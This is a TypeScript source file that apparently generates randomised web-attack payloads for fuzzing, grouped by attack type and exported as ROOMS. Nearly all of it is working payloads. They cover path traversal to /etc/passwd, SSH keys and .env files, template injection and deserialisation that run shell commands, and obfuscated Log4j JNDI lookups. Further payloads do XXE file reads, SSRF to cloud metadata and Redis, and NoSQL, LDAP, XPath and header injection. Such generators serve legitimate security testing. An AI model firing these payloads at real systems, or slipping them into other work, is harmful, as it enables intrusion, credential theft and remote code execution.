import type { Choices, Grammar } from './choices.ts'

const repeat = (c: Choices, text: string, most: number): string => text.repeat(1 + c.number(most))

/** RFC 3986, 5.2.4, and what servers make of it: doubled steps, parameters, separators of Windows. */
function path(c: Choices): string {
  const step = c.one(['../', '../', '..\\', '....//', '..;/', '../', '..././../', '....\\\\'])
  const target = step.includes('\\')
    ? c.one(['windows\\win.ini', 'boot.ini', 'windows\\system32\\drivers\\etc\\hosts'])
    : c.one([
        'etc/passwd',
        'etc/shadow',
        'proc/self/environ',
        'root/.ssh/id_rsa',
        'var/log/apache2/access.log',
        '.env',
        'WEB-INF/web.xml',
        '.git/config',
      ])
  return `${c.one(['', '/', 'images/', 'file=', 'C:\\', './'])}${repeat(c, step, 7)}${step}${target}${c.one(['', '', '\0', '\0.png', '?x', '#', '/.'])}`
}

/** Jinja, Twig, FreeMarker, Velocity, Thymeleaf, ERB, EL, OGNL, Smarty, Angular, Log4j: expressions that compute or reach. */
function template(c: Choices): string {
  const sum = c.one(['7*7', "7*'7'", '1337*1338', '(9-2)*7', '191*7+0'])
  const python = c.one([
    "''.__class__.__mro__[1].__subclasses__()",
    "config.__class__.__init__.__globals__['os'].popen('id').read()",
    "request.application.__globals__.__builtins__.__import__('os').popen('id').read()",
    "cycler.__init__.__globals__.os.popen('id').read()",
    'self._TemplateReference__context.joiner.__init__.__globals__.os',
    "lipsum.__globals__['os'].popen('id')",
    "['id']|filter('system')",
    "_self.env.registerUndefinedFilterCallback('exec')",
    "constructor.constructor('alert(1)')()",
    "request|attr('application')",
  ])
  const java = c.one([
    'T(java.lang.Runtime).getRuntime().exec("id")',
    "''.getClass().forName('java.lang.Runtime')",
    '"freemarker.template.utility.Execute"?new()("id")',
    '#context["xwork.MethodAccessor.denyMethodExecution"]',
    '@java.lang.Runtime@getRuntime().exec("id")',
    'new java.lang.ProcessBuilder({"id"}).start()',
  ])
  return c.one([
    `{{${sum}}}`,
    `\${${sum}}`,
    `#{${sum}}`,
    `<%= ${sum} %>`,
    `*{${sum}}`,
    `{{ ${python} }}`,
    `{{${python}}}`,
    `{% if ${python} %}a{% endif %}`,
    `\${${java}}`,
    `#{${java}}`,
    `%{${java}}`,
    `<%= system('id') %>`,
    '<%= `id` %>',
    `<#assign a=${java}>`,
    "#set($a='')$a.getClass().forName('java.lang.Runtime')",
    "{php}system('id');{/php}",
    "{system('id')}",
    `\${${c.one(['jndi', '${lower:j}ndi', '${::-j}${::-n}di', 'j${upper:n}di', '${env:X:-j}ndi'])}:${c.one(['ldap', 'rmi', 'dns', '${lower:l}dap'])}://x.example/a}`,
    '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x',
  ])
}

/** MongoDB manual, "Query Operators"; `$where` takes a script. */
function nosql(c: Choices): string {
  const operator = c.one(['$ne', '$gt', '$gte', '$regex', '$exists', '$nin', '$not'])
  const all = c.one(['null', '""', '-1', '0', '1', 'true', '".*"', 'undefined'])
  return c.one([
    `{"${operator}": ${all}}`,
    `{"user": {"${operator}": ${all}}, "password": {"${operator}": ${all}}}`,
    `user[${operator}]`,
    `{"$where": "sleep(5000)"}`,
    `', $where: '1 == 1`,
    `' || '1'=='1`,
    `' || 1==1//`,
    `a'; return true; var b='`,
    `1; sleep(5000)`,
    `'; while(true){}; '`,
    `{"$or": [{"a": 1}, {"${operator}": 1}]}`,
    `true, ${operator}: 1`,
    `db.users.drop()`,
  ])
}

/** RFC 4515, section 3. */
function ldap(c: Choices): string {
  const name = c.one(['uid', 'cn', 'userPassword', 'objectClass', 'mail', 'sn'])
  return c.one([
    `*)(${name}=*`,
    `*)(${name}=*))(|(${name}=*`,
    `admin)(&)`,
    `admin)(|(${name}=*`,
    `*))(|(${name}=*))`,
    `x)(!(&(${name}=0)))`,
    `*)(&(${name}=a)`,
    `(&(${name}=admin)(userPassword=*))`,
    `*(|(${name}=*))`,
  ])
}

/** XPath 1.0, 2 and 3. */
function xpath(c: Choices): string {
  const quote = c.one(["'", '"'])
  return c.one([
    `${quote} or 1=1 or ${quote}a${quote}=${quote}a`,
    `${quote} or ${quote}1${quote}=${quote}1`,
    `${quote}] | //user/*[contains(*,${quote}`,
    `x${quote}]|//password|//x[${quote}`,
    `${quote} or count(parent::*[position()=1])=1 or ${quote}a${quote}=${quote}b`,
    `${quote} and string-length(name(/*[1]))=4 and ${quote}1${quote}=${quote}1`,
    `//ancestor::node()`,
    `${quote} or substring(name(parent::*[position()=1]),1,1)=${quote}a`,
    `1 or child::node()`,
  ])
}

/** XML 1.0, 2.8 and 4.2; XInclude 1.1; XSLT 1.0. */
function xml(c: Choices): string {
  const target = c.one([
    'file:///etc/passwd',
    'http://192.0.2.7/a.dtd',
    'php://filter/read=convert.base64-encode/resource=a',
    'expect://id',
  ])
  const quote = c.one(['"', "'"])
  return c.one([
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM ${quote}${target}${quote}>]><a>&b;</a>`,
    `<!DOCTYPE a [<!ENTITY % b SYSTEM ${quote}${target}${quote}> %b;]>`,
    `<!DOCTYPE a PUBLIC "-//B//A/EN" ${quote}${target}${quote}><a/>`,
    `<!DOCTYPE a SYSTEM ${quote}${target}${quote}><a/>`,
    `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${target}"/></a>`,
    `<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>`,
    `<?xml-stylesheet type="text/xsl" href="${target}"?><a/>`,
  ])
}

/** RFC 9112, 2.2; RFC 5321, 4.1; RFC 5322, 3.6. */
function header(c: Choices): string {
  const end = c.one(['\r\n', '\n', '\r\n', '\u560d\u560a'])
  const field = c.one([
    'Set-Cookie: a=b',
    'Location: http://x.example/',
    'Content-Length: 0',
    'X-Forwarded-Host: x.example',
    'Content-Type: text/html',
    'Bcc: a@x.example',
    'To: a@x.example',
  ])
  return `${c.one(['a', '/en', 'x@example.org', '1'])}${end}${field}${c.one(['', '', `${end}${end}<script>alert(1)</script>`, `${end}${end}HTTP/1.1 200 OK`])}`
}

/** WHATWG URL, 3.5: the forms of an address; names that lead to it; protocols that carry commands. */
function ssrf(c: Choices): string {
  const host = c.one([
    '0x7f000001',
    '0x7f.0.0.1',
    '2130706433',
    '0177.0.0.1',
    '017700000001',
    '127.1',
    '127.0.1',
    '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]',
    '169.254.169.254',
    '0xa9fea9fe',
    '2852039166',
    'metadata.google.internal',
    '127.0.0.1.nip.io',
    '[::]',
    '0',
    'x.example@169.254.169.254',
    '%31%32%37%2e%30%2e%31',
    '[fd00:ec2::254]',
    '100.100.100.200',
  ])
  return c.chance(6)
    ? `${c.one(['gopher', 'dict'])}://${c.one(['127.0.0.1', 'localhost', '10.0.0.5'])}:${c.one(['6379', '11211', '25'])}/${c.one(['_a', 'info', 'x%0d%0ay'])}`
    : `${c.one(['http', 'https', 'http', 'ftp'])}://${host}${c.one(['', ':80', ':8080'])}${c.one(['/', '/latest/meta-data/', '/admin', '/?a=b'])}`
}

/** ECMA-262, B.2.2.1. */
function prototype(c: Choices): string {
  return c.one([
    '__proto__[a]',
    '__proto__.a',
    'constructor[prototype][a]',
    'constructor.prototype.a',
    '{"__proto__":{"a":1}}',
    '{"a":{"__proto__":{"b":true}}}',
    '{"constructor":{"prototype":{"a":1}}}',
    'a[__proto__][b]',
  ])
}

/** Serialised objects of Java, PHP, Python, .NET, Ruby and node-serialize, and code of a server's language. */
function program(c: Choices): string {
  const quote = c.one(["'", '"'])
  const call = c.one([
    "system('id')",
    "exec('id')",
    "passthru('id')",
    'phpinfo()',
    'eval($_GET[1])',
    "shell_exec('id')",
    "assert('1')",
  ])
  return c.one([
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    'a:1:{i:0;O:3:"Foo":0:{}}',
    "cos\nsystem\n(S'id'\ntR.",
    '{"a":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
    '!!python/object/apply:os.system ["id"]',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/"]]]]',
    `${quote}.${call}.${quote}`,
    `;${call};`,
    `${quote};${call};//`,
    `<?php ${call}; ?>`,
    `<?=${call}?>`,
    "__import__('os').system('id')",
    "require('child_process').execSync('id')",
    'Runtime.getRuntime().exec("id")',
    '<!--#exec cmd="id" -->',
    '<esi:include src="http://x.example/a"/>',
  ])
}

/** All but SQL, pages and shells, by the name of what they attack. */
export const ROOMS: Readonly<Record<string, Grammar>> = {
  path,
  template,
  nosql,
  ldap,
  xpath,
  xml,
  header,
  ssrf,
  prototype,
  program,
}
